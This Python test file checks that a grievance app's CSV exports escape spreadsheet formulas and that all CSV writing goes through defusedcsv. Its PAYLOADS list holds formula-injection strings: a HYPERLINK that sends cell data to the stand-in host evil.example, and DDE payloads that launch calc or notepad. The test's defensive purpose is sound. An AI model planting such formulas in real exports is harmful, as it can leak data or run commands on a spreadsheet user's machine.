"""Spreadsheet formulas typed by a citizen never come out live in a CSV the app writes: every
export endpoint (each admin list's export.csv, every dashboard table, tickets.csv) is downloaded
with formula-shaped names, addresses and descriptions stored, and no cell may start a formula."""

import ast
import csv
import io
import re
from pathlib import Path

import pytest

from app.extensions import db
from app.views.base.csv_export import csv_response
from app.views.dashboard import screens as dashboard
from tests.conftest import login
from tests.grievance_helpers import new_ticket

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
# (citizen name, ticket address, ticket description): every character a formula may start with
PAYLOADS = [
    (FORMULA, "+1+cmd|' /C calc'!A0", "=1+1 Drain blocked near the school"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9) water leak"),
    ("\t=1+1", '\r=HYPERLINK("http://evil.example")', '+HYPERLINK("http://evil.example")'),
    ("-1+1", "\t@SUM(1)", "-cmd|' /C calc'!A0 sewage"),
    ("|calc", "%0A=1+1", "=cmd|' /C notepad'!'A1'"),
]
STARTS = ("=", "+", "-", "@", "\t", "\r", "|", "%")
PLAIN_NUMBER = re.compile(r"^-?[0-9,.]+$")
ROOT = Path(__file__).resolve().parents[2]


def live_formulas(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would read as a formula (a negative number is only a number)."""
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(STARTS) and not PLAIN_NUMBER.match(cell)
    ]


def parse(answer) -> list[list[str]]:
    text = answer.get_data(as_text=True).removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(text, newline="")))


def export_urls(app) -> list[str]:
    """Every CSV the app serves, found in its URL map, so a new export is tested too."""
    urls = []
    for rule in app.url_map.iter_rules():
        if not rule.rule.endswith(".csv"):
            continue
        if rule.arguments == {"name"} and rule.endpoint == "DashboardView.table":
            urls += [rule.rule.replace("<name>", name) for name in dashboard.TABLES]
        else:
            assert not rule.arguments, f"teach this test the arguments of {rule.rule}"
            urls.append(rule.rule)
    return sorted(urls)


@pytest.fixture(scope="module")
def formula_tickets(app):
    with app.app_context():
        for n, (name, address, description) in enumerate(PAYLOADS):
            ticket = new_ticket(
                phone=f"+91981700{n:04d}", description=description, name="Formula citizen"
            )
            ticket.citizen.name = name  # as any edit path could store it, untrimmed
            ticket.address = address
        db.session.commit()


def test_no_export_holds_a_live_formula(app, formula_tickets):
    client = login(app, "admin")
    urls = export_urls(app)
    assert "/citizenview/export.csv" in urls and "/dashboard/tickets.csv" in urls
    seen = {}
    for url in urls:
        answer = client.get(url)
        assert answer.status_code == 200, (url, answer.status_code)
        assert answer.mimetype == "text/csv"
        rows = parse(answer)
        assert live_formulas(rows) == [], url
        seen[url] = {cell for row in rows for cell in row}
    assert "'" + FORMULA in seen["/citizenview/export.csv"]
    assert "'\t=1+1" in seen["/citizenview/export.csv"]
    tickets = seen["/dashboard/tickets.csv"]
    assert "'=1+1 Drain blocked near the school" in tickets
    assert '\'\r=HYPERLINK("http://evil.example")' in tickets
    assert "-2+3+cmd|' /C calc'!A0" not in tickets


def test_numbers_stay_numbers_and_every_start_is_quoted(app):
    header = ["=Header", "Amount"]
    values = [*(row for payload in PAYLOADS for row in payload), "-12.50", -3, 4.5, None]
    with app.test_request_context():
        answer = csv_response("x.csv", header, ([value, 1] for value in values))
        rows = parse(answer)
    assert live_formulas(rows) == []
    assert rows[0] == ["'=Header", "Amount"]
    cells = [row[0] for row in rows[1:]]
    assert cells[-4:] == ["-12.50", "-3", "4.5", ""]
    assert all(cell.startswith("'") for cell in cells[:-4])


def _stdlib_csv_writers(path: Path) -> list[str]:
    tree = ast.parse(path.read_text(), str(path))
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module == "csv":
            found += [a.name for a in node.names if a.name in ("writer", "DictWriter")]
        if (
            isinstance(node, ast.Attribute)
            and node.attr in ("writer", "DictWriter")
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
            and "from defusedcsv import csv" not in path.read_text()
        ):
            found.append(f"csv.{node.attr}")
    return found


def test_every_csv_writer_goes_through_defusedcsv():
    offenders = {
        str(path.relative_to(ROOT)): names
        for folder in ("app", "workers")
        for path in (ROOT / folder).rglob("*.py")
        if (names := _stdlib_csv_writers(path))
    }
    assert offenders == {}
